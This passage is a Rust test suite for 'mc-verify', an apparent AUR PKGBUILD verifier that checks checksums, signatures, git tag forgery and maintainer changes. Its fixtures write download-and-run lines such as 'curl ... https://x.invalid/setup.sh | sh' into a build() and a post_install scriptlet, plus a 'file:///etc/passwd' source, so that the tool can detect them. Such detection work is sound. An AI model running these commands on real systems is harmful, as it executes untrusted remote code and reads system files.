//! `mc-verify` end to end: sources served on loopback, signatures by keys the test makes, and a
//! PKGBUILD that would leave a mark if anything ran it.

use std::{collections::BTreeMap, fs, path::Path, process::Command, time::Duration};

use minicluster::openpgp::SigningKey;
use pipeline_tests::{Run, bin, require, run};
use xtask::serve::{Fault, MirrorServer};

/// Hex sha256 of `data`, as `sha256sum` prints it.
fn sha256(data: &[u8]) -> String {
    let output = Command::new("sha256sum")
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .and_then(|mut child| {
            use std::io::Write;
            child.stdin.take().expect("stdin").write_all(data)?;
            child.wait_with_output()
        })
        .expect("sha256sum runs");
    String::from_utf8_lossy(&output.stdout)
        .split_whitespace()
        .next()
        .unwrap_or_default()
        .to_owned()
}

/// A PKGBUILD folder whose `.SRCINFO` lists `sources` (`(source line, sha256 line)`).
fn pkgbuild(dir: &Path, base: &str, sources: &[(String, String)], extra: &str, pkgbuild: &str) {
    fs::create_dir_all(dir).expect("folder");
    let mut srcinfo =
        format!("pkgbase = {base}\n\tpkgver = 1.0\n\tpkgrel = 1\n\tarch = x86_64\n{extra}");
    for (source, _) in sources {
        srcinfo.push_str(&format!("\tsource = {source}\n"));
    }
    for (_, sum) in sources {
        srcinfo.push_str(&format!("\tsha256sums = {sum}\n"));
    }
    srcinfo.push_str(&format!("\npkgname = {base}\n"));
    fs::write(dir.join(".SRCINFO"), srcinfo).expect("write .SRCINFO");
    fs::write(dir.join("PKGBUILD"), pkgbuild).expect("write PKGBUILD");
}

fn verify(args: &[&str]) -> Run {
    run(&bin("mc-verify"), args, "")
}

fn by_file(run: &Run) -> BTreeMap<String, String> {
    run.of_type("source")
        .iter()
        .map(|s| {
            (
                s["file"].as_str().unwrap_or_default().to_owned(),
                s["verdict"].as_str().unwrap_or_default().to_owned(),
            )
        })
        .collect()
}

fn checks(run: &Run) -> Vec<String> {
    let mut checks: Vec<String> = run
        .of_type("finding")
        .iter()
        .map(|f| f["check"].as_str().unwrap_or_default().to_owned())
        .collect();
    checks.sort();
    checks
}

#[test]
fn checksums_signatures_and_text_findings_on_a_loopback_upstream() {
    let upstream = tempfile::tempdir().expect("tempdir");
    let work = tempfile::tempdir().expect("tempdir");
    let (maintainer, stranger) = (
        SigningKey::generate("maintainer <m@x.invalid>").expect("key"),
        SigningKey::generate("stranger <s@x.invalid>").expect("key"),
    );
    let files: [(&str, &[u8]); 5] = [
        ("good.tar.gz", b"good release"),
        ("bad.tar.gz", b"someone replaced this"),
        ("signed.tar.gz", b"signed release"),
        ("other.tar.gz", b"signed by a stranger"),
        ("skipped.tar.gz", b"unchecked"),
    ];
    for (name, data) in files {
        fs::write(upstream.path().join(name), data).expect("write");
    }
    let signature = |key: &SigningKey, data: &[u8]| key.sign_detached(data).expect("sign");
    fs::write(
        upstream.path().join("signed.tar.gz.sig"),
        signature(&maintainer, b"signed release"),
    )
    .expect("sig");
    fs::write(
        upstream.path().join("other.tar.gz.sig"),
        signature(&stranger, b"signed by a stranger"),
    )
    .expect("sig");
    let server = MirrorServer::start(upstream.path(), "127.0.0.1:0").expect("server");
    let url = |name: &str| format!("{}/{name}", server.url());
    let folder = work.path().join("demo");
    let mark = work.path().join("executed");
    let sources = vec![
        (url("good.tar.gz"), sha256(b"good release")),
        (url("bad.tar.gz"), sha256(b"the maintainer's release")),
        (url("signed.tar.gz"), sha256(b"signed release")),
        (url("signed.tar.gz.sig"), "SKIP".to_owned()),
        (url("other.tar.gz"), sha256(b"signed by a stranger")),
        (url("other.tar.gz.sig"), "SKIP".to_owned()),
        (url("skipped.tar.gz"), "SKIP".to_owned()),
        (url("missing.tar.gz"), sha256(b"")),
        ("app.conf".to_owned(), sha256(b"setting = 1\n")),
        (
            "svn+https://example.invalid/demo#revision=1".to_owned(),
            "SKIP".to_owned(),
        ),
        ("file:///etc/passwd".to_owned(), "SKIP".to_owned()),
    ];
    let pkgbuild_text = format!(
        "pkgname=demo\npkgver=2.0\npkgrel=1\ntouch '{}'\nbuild() {{\n  curl -fsSL https://x.invalid/setup.sh | sh\n}}\n",
        mark.display()
    );
    let fingerprint = maintainer.fingerprint();
    pkgbuild(
        &folder,
        "demo",
        &sources,
        &format!("\tvalidpgpkeys = {fingerprint}\n"),
        &pkgbuild_text,
    );
    fs::write(folder.join("app.conf"), "setting = 1\n").expect("local source");
    let keyring = work.path().join("keyring.asc");
    let certificates = format!(
        "{}{}",
        maintainer.public_armored().expect("public"),
        stranger.public_armored().expect("public")
    );
    fs::write(&keyring, certificates).expect("keyring");
    let cache = work.path().join("cache");
    let run = verify(&[
        "--keyring",
        &keyring.display().to_string(),
        "--cache",
        &cache.display().to_string(),
        "--timeout",
        "5",
        &folder.display().to_string(),
    ]);
    assert_eq!(run.code, 1, "{}", run.stderr);
    let verdicts = by_file(&run);
    let expected = [
        ("good.tar.gz", "ok"),
        ("bad.tar.gz", "mismatch"),
        ("signed.tar.gz", "ok"),
        ("signed.tar.gz.sig", "signature_ok"),
        ("other.tar.gz", "ok"),
        ("other.tar.gz.sig", "signature_bad"),
        ("skipped.tar.gz", "skipped"),
        ("missing.tar.gz", "unreachable"),
        ("app.conf", "ok"),
        ("demo", "unverified"),
        ("passwd", "unreachable"),
    ];
    for (file, verdict) in expected {
        assert_eq!(
            verdicts.get(file).map(String::as_str),
            Some(verdict),
            "{file}: {verdicts:?}"
        );
    }
    assert_eq!(
        checks(&run),
        [
            "checksum-mismatch",
            "download-execute",
            "hostile-source",
            "insecure-unsigned",
            "insecure-unsigned",
            "insecure-unsigned",
            "insecure-unsigned",
            "signature-unknown-key",
            "skip-non-vcs",
            "source-unreachable",
            "srcinfo-outdated",
            "vcs-source",
        ],
        "{:#?}",
        run.of_type("finding")
    );
    let signer = run
        .of_type("source")
        .into_iter()
        .find(|s| s["file"] == "signed.tar.gz.sig")
        .map(|s| s["signer"].clone());
    assert_eq!(signer, Some(fingerprint.clone().into()));
    assert!(!mark.exists(), "mc-verify ran the PKGBUILD");
    assert!(
        cache.join("demo/good.tar.gz").exists(),
        "verified sources stay in the cache"
    );
    assert!(
        !cache.join("demo/bad.tar.gz").exists(),
        "a mismatching download is not kept"
    );
}

#[test]
fn endless_and_stalled_sources_end_in_errors_and_the_rest_goes_on() {
    let upstream = tempfile::tempdir().expect("tempdir");
    fs::write(upstream.path().join("huge.iso"), vec![b'x'; 4096]).expect("write");
    fs::write(upstream.path().join("small.txt"), b"fine").expect("write");
    fs::write(upstream.path().join("slow.txt"), b"late").expect("write");
    let server = MirrorServer::start(upstream.path(), "127.0.0.1:0").expect("server");
    server.fail("/slow.txt", &[Fault::Stall(Duration::from_secs(8)); 3]);
    let work = tempfile::tempdir().expect("tempdir");
    let folder = work.path().join("limits");
    let url = |name: &str| format!("{}/{name}", server.url());
    let sources = vec![
        (url("huge.iso"), sha256(&[b'x'; 4096])),
        (url("slow.txt"), sha256(b"late")),
        (url("small.txt"), sha256(b"fine")),
    ];
    pkgbuild(
        &folder,
        "limits",
        &sources,
        "",
        "pkgname=limits\npkgver=1.0\npkgrel=1\n",
    );
    let started = std::time::Instant::now();
    let run = verify(&[
        "--cache",
        &work.path().join("cache").display().to_string(),
        "--max-source-size",
        "1000",
        "--timeout",
        "1",
        "--retries",
        "1",
        &folder.display().to_string(),
    ]);
    assert!(
        started.elapsed() < Duration::from_secs(8),
        "a stalled server must not hang the run"
    );
    let verdicts = by_file(&run);
    assert_eq!(verdicts["huge.iso"], "unreachable");
    assert_eq!(verdicts["slow.txt"], "unreachable");
    assert_eq!(verdicts["small.txt"], "ok");
    let messages: Vec<String> = run
        .of_type("finding")
        .iter()
        .map(|f| f["message"].as_str().unwrap_or_default().to_owned())
        .collect();
    assert!(
        messages
            .iter()
            .any(|m| m.contains("larger than the limit of 1000 bytes")),
        "{messages:?}"
    );
}

#[test]
fn malformed_srcinfo_is_an_error_record_and_the_next_folder_is_checked() {
    let work = tempfile::tempdir().expect("tempdir");
    let broken = work.path().join("broken");
    fs::create_dir_all(&broken).expect("folder");
    fs::write(
        broken.join(".SRCINFO"),
        "pkgbase = broken\n\tpkgver = 1-0-0\n",
    )
    .expect("write");
    let fine = work.path().join("fine");
    pkgbuild(
        &fine,
        "fine",
        &[],
        "",
        "pkgname=fine\npkgver=1.0\npkgrel=1\n",
    );
    let run = verify(&[
        "--cache",
        &work.path().join("cache").display().to_string(),
        &broken.display().to_string(),
        &fine.display().to_string(),
    ]);
    assert_eq!(run.code, 1);
    assert_eq!(run.error_kinds(), ["bad_srcinfo"]);
    let error = &run.of_type("error")[0];
    assert!(
        error["message"]
            .as_str()
            .is_some_and(|m| m.contains("broken/.SRCINFO")),
        "{error}"
    );
    assert_eq!(run.count("pkgbuilds"), 2);
}

/// makepkg --verifysource, run as an unprivileged user on the same PKGBUILDs, reaches the same
/// verdict on checksums.
#[test]
fn checksum_verdicts_agree_with_makepkg() {
    require("makepkg", "makepkg");
    let upstream = tempfile::tempdir().expect("tempdir");
    fs::write(upstream.path().join("release.tar.gz"), b"release bytes").expect("write");
    let server = MirrorServer::start(upstream.path(), "127.0.0.1:0").expect("server");
    let work = tempfile::tempdir().expect("tempdir");
    fs::set_permissions(
        work.path(),
        std::os::unix::fs::PermissionsExt::from_mode(0o777),
    )
    .expect("chmod");
    for (name, sum, should_pass) in [
        ("agree-good", sha256(b"release bytes"), true),
        ("agree-bad", sha256(b"other bytes"), false),
    ] {
        let folder = work.path().join(name);
        let source = format!("{}/release.tar.gz", server.url());
        let pkgbuild_text = format!(
            "pkgname={name}\npkgver=1.0\npkgrel=1\narch=(x86_64)\nsource=('{source}')\nsha256sums=('{sum}')\npackage() {{ :; }}\n"
        );
        pkgbuild(&folder, name, &[(source, sum)], "", &pkgbuild_text);
        fs::set_permissions(&folder, std::os::unix::fs::PermissionsExt::from_mode(0o777))
            .expect("chmod");
        let ours = verify(&[
            "--cache",
            &work.path().join("cache").display().to_string(),
            &folder.display().to_string(),
        ]);
        let as_root = Command::new("id")
            .arg("-u")
            .output()
            .is_ok_and(|o| o.stdout.starts_with(b"0"));
        let mut makepkg = if as_root {
            let mut setpriv = Command::new("setpriv");
            setpriv.args([
                "--reuid=65534",
                "--regid=65534",
                "--clear-groups",
                "makepkg",
            ]);
            setpriv
        } else {
            Command::new("makepkg")
        };
        let theirs = makepkg
            .args(["--verifysource", "--nodeps", "--noconfirm"])
            .current_dir(&folder)
            .env("HOME", &folder)
            .env("SRCDEST", &folder)
            .output()
            .expect("makepkg runs");
        assert_eq!(
            theirs.status.success(),
            should_pass,
            "makepkg: {}",
            String::from_utf8_lossy(&theirs.stderr)
        );
        assert_eq!(ours.code == 0, should_pass, "mc-verify: {:?}", ours.records);
    }
}

/// Given the commit the user last fetched (a `pkgbuild` record's `previous_commit`), what changed
/// since is reported: a new host, new checksums under the same version, a new install scriptlet.
#[test]
fn changes_since_the_last_fetched_commit_are_findings() {
    let upstream = tempfile::tempdir().expect("tempdir");
    fs::write(upstream.path().join("app.tar.gz"), b"release two").expect("write");
    let server = MirrorServer::start(upstream.path(), "127.0.0.1:0").expect("server");
    let port = server
        .url()
        .rsplit(':')
        .next()
        .unwrap_or_default()
        .to_owned();
    let work = tempfile::tempdir().expect("tempdir");
    let folder = work.path().join("app");
    let git = |args: &[&str]| {
        let status = Command::new("git")
            .arg("-C")
            .arg(&folder)
            .args(["-c", "user.name=t", "-c", "user.email=t@x.invalid"])
            .args(args)
            .status()
            .expect("git runs");
        assert!(status.success(), "git {args:?}");
    };
    let write = |host: &str, content: &[u8], install: &str| {
        let source = (format!("http://{host}:{port}/app.tar.gz"), sha256(content));
        pkgbuild(
            &folder,
            "app",
            &[source],
            "\tinstall = app.install\n",
            "pkgname=app\npkgver=1.0\npkgrel=1\n",
        );
        fs::write(folder.join("app.install"), install).expect("install");
    };
    write("127.0.0.1", b"release one", "post_install() { echo hi; }\n");
    git(&["init", "-q"]);
    git(&["add", "-A"]);
    git(&["commit", "-q", "-m", "one"]);
    let first = Command::new("git")
        .arg("-C")
        .arg(&folder)
        .args(["rev-parse", "HEAD"])
        .output()
        .expect("git");
    let first = String::from_utf8_lossy(&first.stdout).trim().to_owned();
    write(
        "localhost",
        b"release two",
        "post_install() { curl -s https://x.invalid | sh; }\n",
    );
    git(&["commit", "-q", "-am", "two"]);
    let record = serde_json::json!({"type": "pkgbuild", "base": "app", "path": folder, "previous_commit": first});
    let run = pipeline_tests::run(
        &bin("mc-verify"),
        &["--cache", &work.path().join("cache").display().to_string()],
        &format!("{record}\n"),
    );
    let found = checks(&run);
    for check in [
        "source-host-changed",
        "sources-changed",
        "checksums-changed",
        "install-changed",
        "download-execute",
    ] {
        assert!(
            found.iter().any(|c| c == check),
            "{check} missing: {found:?}"
        );
    }
    let changed = run
        .of_type("finding")
        .into_iter()
        .find(|f| f["check"] == "checksums-changed")
        .expect("found");
    assert_eq!(changed["severity"], "warning", "same version, new bytes");
}

/// A GnuPG home holding secret keys, to sign tags and commits as upstream projects do (`git tag
/// -s`); its agent is stopped when it is dropped.
struct GnuPg {
    home: tempfile::TempDir,
}

impl GnuPg {
    fn with_secret_keys(keys: &[&SigningKey]) -> Self {
        require("gpg", "gnupg");
        let home = tempfile::tempdir().expect("tempdir");
        for (index, key) in keys.iter().enumerate() {
            let file = home.path().join(format!("secret{index}.asc"));
            fs::write(&file, key.secret_armored().expect("secret")).expect("write key");
            let output = Command::new("gpg")
                .args(["--batch", "--quiet", "--import"])
                .arg(&file)
                .env("GNUPGHOME", home.path())
                .output()
                .expect("gpg runs");
            assert!(
                output.status.success(),
                "gpg --import: {}",
                String::from_utf8_lossy(&output.stderr)
            );
        }
        Self { home }
    }

    /// `git ARGS` in `repo`, signing (`tag -u FPR`, `commit -SFPR`) with this home's keys; its
    /// stdout, trimmed.
    fn git(&self, repo: &Path, args: &[&str]) -> String {
        let output = Command::new("git")
            .arg("-C")
            .arg(repo)
            .args(["-c", "user.name=t", "-c", "user.email=t@x.invalid"])
            .args(["-c", "gpg.program=gpg", "-c", "commit.gpgSign=false"])
            .args(args)
            .env("GNUPGHOME", self.home.path())
            .output()
            .expect("git runs");
        assert!(
            output.status.success(),
            "git {args:?}: {}",
            String::from_utf8_lossy(&output.stderr)
        );
        String::from_utf8_lossy(&output.stdout).trim().to_owned()
    }
}

impl Drop for GnuPg {
    fn drop(&mut self) {
        let _ = Command::new("gpgconf")
            .args(["--kill", "gpg-agent"])
            .env("GNUPGHOME", self.home.path())
            .status();
    }
}

/// Git sources are mirrored into the cache as makepkg mirrors them (here over git's "dumb" HTTP,
/// which the loopback server speaks once `git update-server-info` has run), the revision each
/// names is resolved, and `?signed` tags and commits are verified against `validpgpkeys`.
#[test]
fn git_sources_are_mirrored_and_their_revisions_and_signatures_checked() {
    require("git", "git");
    let (maintainer, stranger) = (
        SigningKey::generate("maintainer <m@x.invalid>").expect("key"),
        SigningKey::generate("stranger <s@x.invalid>").expect("key"),
    );
    let gnupg = GnuPg::with_secret_keys(&[&maintainer, &stranger]);
    let (upstream, work) = (
        tempfile::tempdir().expect("tempdir"),
        tempfile::tempdir().expect("tempdir"),
    );
    let repo = work.path().join("app");
    fs::create_dir_all(&repo).expect("folder");
    let git = |args: &[&str]| gnupg.git(&repo, args);
    git(&["init", "-q", "-b", "main"]);
    fs::write(repo.join("README"), "one\n").expect("write");
    git(&["add", "README"]);
    git(&["commit", "-q", "-m", "one"]);
    let first = git(&["rev-parse", "HEAD"]);
    let (ours, theirs) = (maintainer.fingerprint(), stranger.fingerprint());
    git(&["tag", "-a", "v1", "-m", "v1"]);
    git(&["tag", "-u", &ours, "v1-signed", "-m", "v1"]);
    git(&["tag", "-u", &theirs, "v1-stranger", "-m", "v1"]);
    // A tag object made for v0 but published as v1.1: makepkg calls such a tag forged.
    git(&["tag", "-a", "v0", "-m", "v0"]);
    git(&["update-ref", "refs/tags/v1.1", "refs/tags/v0"]);
    fs::write(repo.join("README"), "two\n").expect("write");
    git(&["commit", "-q", "-a", &format!("-S{ours}"), "-m", "two"]);
    let second = git(&["rev-parse", "HEAD"]);
    let bare = upstream.path().join("app.git");
    git(&["clone", "-q", "--bare", ".", &bare.display().to_string()]);
    let publish = || gnupg.git(&bare, &["update-server-info"]);
    publish();
    let server = MirrorServer::start(upstream.path(), "127.0.0.1:0").expect("server");
    let url = format!("git+{}/app.git", server.url());
    let sources: Vec<(String, String)> = [
        format!("pinned::{url}#commit={first}"),
        format!("tagged::{url}#tag=v1"),
        format!("missing::{url}#tag=v9"),
        format!("forged::{url}#tag=v1.1"),
        format!("signed::{url}#tag=v1-signed?signed"),
        format!("stranger::{url}#tag=v1-stranger?signed"),
        format!("unsigned::{url}#tag=v1?signed"),
        format!("commit::{url}#commit={second}?signed"),
        format!("branch::{url}#branch=main"),
        format!("gone::git+{}/gone.git#tag=v1", server.url()),
    ]
    .into_iter()
    .map(|source| (source, "SKIP".to_owned()))
    .collect();
    let (folder, vcs_folder) = (work.path().join("gitdemo"), work.path().join("app-git"));
    let keys = format!("\tvalidpgpkeys = {ours}\n");
    pkgbuild(
        &folder,
        "gitdemo",
        &sources,
        &keys,
        "pkgname=gitdemo\npkgver=1.0\n",
    );
    let head = [(url.clone(), "SKIP".to_owned())];
    pkgbuild(
        &vcs_folder,
        "app-git",
        &head,
        "",
        "pkgname=app-git\npkgver=1.0\n",
    );
    let keyring = work.path().join("keyring.asc");
    let certificates = [&maintainer, &stranger].map(|key| key.public_armored().expect("public"));
    fs::write(&keyring, certificates.concat()).expect("keyring");
    let cache = work.path().join("cache");
    let check = || {
        verify(&[
            "--keyring",
            &keyring.display().to_string(),
            "--cache",
            &cache.display().to_string(),
            "--timeout",
            "5",
            &folder.display().to_string(),
            &vcs_folder.display().to_string(),
        ])
    };
    let run = check();
    assert_eq!(run.code, 1, "{}", run.stderr);
    let expected = [
        ("pinned", "ok"),
        ("tagged", "ok"),
        ("missing", "unreachable"),
        ("forged", "mismatch"),
        ("signed", "signature_ok"),
        ("stranger", "signature_bad"),
        ("unsigned", "signature_bad"),
        ("commit", "signature_ok"),
        ("branch", "ok"),
        ("gone", "unreachable"),
        ("app", "ok"),
    ];
    assert_eq!(
        by_file(&run),
        expected
            .iter()
            .map(|(file, verdict)| ((*file).to_owned(), (*verdict).to_owned()))
            .collect()
    );
    assert_eq!(
        checks(&run),
        [
            "insecure-unsigned",
            "insecure-unsigned",
            "insecure-unsigned",
            "insecure-unsigned",
            "insecure-unsigned",
            "insecure-unsigned",
            "signature-invalid",
            "signature-unknown-key",
            "source-unreachable",
            "vcs-floating-ref",
            "vcs-floating-ref",
            "vcs-ref-missing",
            "vcs-tag-forged",
        ],
        "{:#?}",
        run.of_type("finding")
    );
    let source = |run: &Run, file: &str| {
        run.of_type("source")
            .into_iter()
            .find(|s| s["file"] == file)
            .cloned()
            .unwrap_or_else(|| panic!("no source {file}"))
    };
    for (file, commit, signer) in [
        ("pinned", &first, None),
        ("tagged", &first, None),
        ("signed", &first, Some(&ours)),
        ("stranger", &first, Some(&theirs)),
        ("commit", &second, Some(&ours)),
        ("branch", &second, None),
        ("app", &second, None),
    ] {
        let record = source(&run, file);
        assert_eq!(record["checksums"], serde_json::json!({ "commit": commit }));
        assert_eq!(record["signer"], serde_json::json!(signer), "{file}");
    }
    assert!(cache.join("gitdemo/pinned/HEAD").is_file(), "a bare mirror");
    let severity = |base: &str| {
        run.of_type("finding")
            .into_iter()
            .find(|f| f["check"] == "vcs-floating-ref" && f["base"] == base)
            .map(|f| f["severity"].clone())
    };
    assert_eq!(severity("gitdemo"), Some("warning".into()));
    assert_eq!(
        severity("app-git"),
        Some("info".into()),
        "a -git package follows its branch"
    );

    // Upstream pushes: the mirrors are fetched again, and only the floating sources move.
    fs::write(repo.join("README"), "three\n").expect("write");
    git(&["commit", "-q", "-a", "-m", "three"]);
    let third = git(&["rev-parse", "HEAD"]);
    git(&["push", "-q", &bare.display().to_string(), "main"]);
    publish();
    let again = check();
    assert_eq!(by_file(&again), by_file(&run));
    for (file, commit) in [("pinned", &first), ("branch", &third), ("app", &third)] {
        assert_eq!(source(&again, file)["checksums"]["commit"], commit.as_str());
    }
}

/// Unix seconds as the records write times.
fn rfc3339(unix: i64) -> String {
    minicluster::record::Timestamp::from_unix(unix).to_string()
}

/// The Unix time now.
fn unix_now() -> i64 {
    let since = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH);
    i64::try_from(since.expect("a clock after 1970").as_secs()).expect("seconds fit")
}

/// `pkgbuild` records (handwritten, as `mc-fetch aur clone` writes them) say who maintains each
/// package base now and at the previous fetch; each case gives its maintainer findings, and
/// `report` keeps them out of the comments for maintainers.
#[test]
fn maintainer_changes_orphans_and_recent_adoptions_are_findings() {
    use serde_json::json;
    let work = tempfile::tempdir().expect("tempdir");
    let (now, day) = (unix_now(), 86_400);
    let cases = [
        (
            "handed-over",
            json!({"maintainer": "mallory", "previous_maintainer": "alice", "fetched_before": true, "last_modified_at": rfc3339(now - 400 * day)}),
            vec!["maintainer-changed"],
        ),
        (
            "adopted",
            json!({"maintainer": "mallory", "previous_maintainer": null, "fetched_before": true, "last_modified_at": rfc3339(now - day)}),
            vec!["maintainer-changed"],
        ),
        (
            "disowned",
            json!({"maintainer": null, "previous_maintainer": "alice", "fetched_before": true, "last_modified_at": rfc3339(now - 2 * day)}),
            vec!["maintainer-changed", "orphan"],
        ),
        (
            "orphaned",
            json!({"maintainer": null, "previous_maintainer": null, "fetched_before": false, "last_modified_at": rfc3339(now - 900 * day)}),
            vec!["orphan"],
        ),
        (
            "fresh-hands",
            json!({"maintainer": "mallory", "previous_maintainer": null, "fetched_before": false, "last_modified_at": rfc3339(now - 3 * day)}),
            vec!["adopted-recently"],
        ),
        (
            "old-hands",
            json!({"maintainer": "mallory", "previous_maintainer": null, "fetched_before": false, "last_modified_at": rfc3339(now - 100 * day)}),
            vec![],
        ),
        (
            "steady",
            json!({"maintainer": "alice", "previous_maintainer": "alice", "fetched_before": true, "last_modified_at": rfc3339(now - day)}),
            vec![],
        ),
        ("no-aur-data", json!({}), vec![]),
    ];
    let mut input = String::new();
    for (base, fields, _) in &cases {
        let folder = work.path().join(base);
        pkgbuild(
            &folder,
            base,
            &[],
            "",
            &format!("pkgname={base}\npkgver=1.0\npkgrel=1\n"),
        );
        let mut record =
            json!({"type": "pkgbuild", "base": base, "path": folder, "submitter": "alice"});
        if fields.as_object().is_some_and(|f| f.is_empty()) {
            record["submitter"] = serde_json::Value::Null;
        }
        for (key, value) in fields.as_object().expect("fields") {
            record[key] = value.clone();
        }
        input.push_str(&format!("{record}\n"));
    }
    let cache = work.path().join("cache").display().to_string();
    let run = run(&bin("mc-verify"), &["--cache", &cache], &input);
    let ours = ["maintainer-changed", "orphan", "adopted-recently"];
    let found: Vec<&serde_json::Value> = run
        .of_type("finding")
        .into_iter()
        .filter(|f| ours.iter().any(|check| f["check"] == *check))
        .collect();
    for (base, _, expected) in &cases {
        let mut checks: Vec<&str> = found
            .iter()
            .filter(|f| f["base"] == *base)
            .filter_map(|f| f["check"].as_str())
            .collect();
        checks.sort_unstable();
        assert_eq!(checks, *expected, "{base}: {found:#?}");
    }
    let message = |base: &str, check: &str| {
        let finding = found
            .iter()
            .find(|f| f["base"] == base && f["check"] == check);
        let finding = finding.unwrap_or_else(|| panic!("{base} {check}"));
        (
            finding["severity"].as_str().unwrap_or_default().to_owned(),
            finding["message"].as_str().unwrap_or_default().to_owned(),
        )
    };
    let (severity, text) = message("adopted", "maintainer-changed");
    assert!(
        severity == "warning" && text.contains("adopted by mallory"),
        "{text}"
    );
    let (severity, text) = message("handed-over", "maintainer-changed");
    assert!(
        severity == "warning" && text.contains("alice") && text.contains("mallory"),
        "{text}"
    );
    assert_eq!(message("orphaned", "orphan").0, "info");
    let (severity, text) = message("fresh-hands", "adopted-recently");
    assert!(
        severity == "warning" && text.contains("heuristic"),
        "{text}"
    );
    assert_eq!(
        run.code, 0,
        "warnings and infos fail nothing: {}",
        run.stderr
    );
    assert_eq!(run.count("pkgbuilds"), cases.len() as u64);

    let report = pipeline_tests::run(
        &bin("mc-verify"),
        &["report"],
        &pipeline_tests::lines(&found),
    );
    assert_eq!(report.code, 0, "{report:?}");
    assert!(report.of_type("comment").is_empty(), "{:?}", report.records);
    assert_eq!(report.count("comments"), 0);
}

/// One request to [`CommentForm`]: its request line, headers (names in lower case) and body.
#[derive(Clone, Debug)]
struct FormRequest {
    line: String,
    headers: Vec<(String, String)>,
    body: String,
}

impl FormRequest {
    fn header(&self, name: &str) -> Option<&str> {
        let found = self.headers.iter().find(|(key, _)| key == name);
        found.map(|(_, value)| value.as_str())
    }

    /// The body as an HTML form: `+` is a space, then percent-decoding.
    fn form(&self) -> BTreeMap<String, String> {
        let decode = |text: &str| {
            let text = text.replace('+', " ");
            percent_encoding::percent_decode_str(&text)
                .decode_utf8_lossy()
                .into_owned()
        };
        self.body
            .split('&')
            .filter_map(|pair| pair.split_once('='))
            .map(|(key, value)| (decode(key), decode(value)))
            .collect()
    }
}

/// aurweb's comment form on loopback, in plain `std::net` (MirrorServer's routes see neither
/// headers nor bodies). As aurweb does, it redirects to the package's page once a comment is
/// saved, to the login page for base `stale` (an expired session), and fails for `broken`.
struct CommentForm {
    url: String,
    requests: std::sync::Arc<std::sync::Mutex<Vec<FormRequest>>>,
}

impl CommentForm {
    fn start() -> Self {
        let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
        let url = format!("http://{}", listener.local_addr().expect("address"));
        let requests: std::sync::Arc<std::sync::Mutex<Vec<FormRequest>>> =
            std::sync::Arc::default();
        let log = std::sync::Arc::clone(&requests);
        std::thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                if let Ok(request) = Self::answer(stream) {
                    log.lock().expect("log").push(request);
                }
            }
        });
        Self { url, requests }
    }

    fn answer(stream: std::net::TcpStream) -> std::io::Result<FormRequest> {
        use std::io::{BufRead, Read, Write};
        let mut reader = std::io::BufReader::new(stream.try_clone()?);
        let mut line = String::new();
        reader.read_line(&mut line)?;
        let mut headers = Vec::new();
        loop {
            let mut header = String::new();
            reader.read_line(&mut header)?;
            let Some((name, value)) = header.trim_end().split_once(':') else {
                break;
            };
            headers.push((name.to_ascii_lowercase(), value.trim().to_owned()));
        }
        let request = FormRequest {
            line: line.trim_end().to_owned(),
            headers,
            body: String::new(),
        };
        let length: usize = request
            .header("content-length")
            .and_then(|n| n.parse().ok())
            .unwrap_or(0);
        let mut body = vec![0; length];
        reader.read_exact(&mut body)?;
        let path = request
            .line
            .split(' ')
            .nth(1)
            .unwrap_or_default()
            .to_owned();
        let base = path.split('/').nth(2).unwrap_or_default().to_owned();
        let status = match base.as_str() {
            "stale" => "303 See Other\r\nLocation: /login?next=%2F".to_owned(),
            "broken" => "500 Internal Server Error".to_owned(),
            _ => format!("303 See Other\r\nLocation: /pkgbase/{base}#comment-7"),
        };
        let mut stream = stream;
        write!(
            stream,
            "HTTP/1.1 {status}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
        )?;
        Ok(FormRequest {
            body: String::from_utf8_lossy(&body).into_owned(),
            ..request
        })
    }

    fn requests(&self) -> Vec<FormRequest> {
        self.requests.lock().expect("log").clone()
    }
}

/// `report --post` posts each comment on its base's page as the cookie file's session, and
/// nothing without --post; --post without --cookie is bad usage.
#[test]
fn report_posts_comments_with_the_session_cookie_and_only_when_asked() {
    use serde_json::json;
    let form = CommentForm::start();
    let work = tempfile::tempdir().expect("tempdir");
    let cookies = work.path().join("cookies.txt");
    fs::write(
        &cookies,
        "# Netscape HTTP Cookie File\n\
         #HttpOnly_aur.archlinux.org\tFALSE\t/\tTRUE\t0\tAURSID\ts3cr3t\n\
         aur.archlinux.org\tFALSE\t/\tTRUE\t0\tAURREMEMBER\tTrue\n",
    )
    .expect("cookies");
    let finding = |base: &str, check: &str, severity: &str| {
        json!({"type": "finding", "base": base, "check": check, "severity": severity,
               "message": format!("{check} & more [see](x)"), "subject": null})
    };
    let findings: String = [
        finding("good", "checksum-mismatch", "error"),
        finding("good", "weak-checksums", "warning"),
        finding("stale", "weak-checksums", "warning"),
        finding("broken", "skip-non-vcs", "warning"),
        finding("quiet", "vcs-source", "info"),
        finding("new-hands", "maintainer-changed", "warning"),
    ]
    .iter()
    .map(|record| format!("{record}\n"))
    .collect();
    let cookie_file = cookies.display().to_string();
    let report = |args: &[&str]| {
        let mut full = vec!["report", "--aur-url", &form.url];
        full.extend(args);
        run(&bin("mc-verify"), &full, &findings)
    };

    let usage = report(&["--post"]);
    assert_eq!(usage.code, 2, "{usage:?}");
    assert!(usage.stderr.contains("--cookie"), "{}", usage.stderr);
    let dry = report(&["--cookie", &cookie_file]);
    assert_eq!((dry.code, dry.count("posted")), (0, 0), "{dry:?}");
    assert_eq!(dry.of_type("comment").len(), 3);
    assert!(form.requests().is_empty(), "nothing is sent without --post");

    let posted = report(&["--post", "--cookie", &cookie_file]);
    assert_eq!(posted.code, 1, "{posted:?}");
    assert_eq!(
        (
            posted.count("comments"),
            posted.count("posted"),
            posted.count("failed")
        ),
        (3, 1, 2)
    );
    assert_eq!(posted.error_kinds(), ["post_failed", "post_failed"]);
    let stale = posted
        .of_type("error")
        .into_iter()
        .find(|e| e["subject"]["base"] == "stale")
        .expect("stale fails");
    assert!(
        stale["message"]
            .as_str()
            .is_some_and(|m| m.contains("log in")),
        "{stale}"
    );
    assert_eq!(
        stale["subject"]["url"],
        format!("{}/pkgbase/stale/comments", form.url)
    );
    let requests = form.requests();
    let mut lines: Vec<&str> = requests.iter().map(|r| r.line.as_str()).collect();
    lines.sort_unstable();
    assert_eq!(
        lines,
        [
            "POST /pkgbase/broken/comments HTTP/1.1",
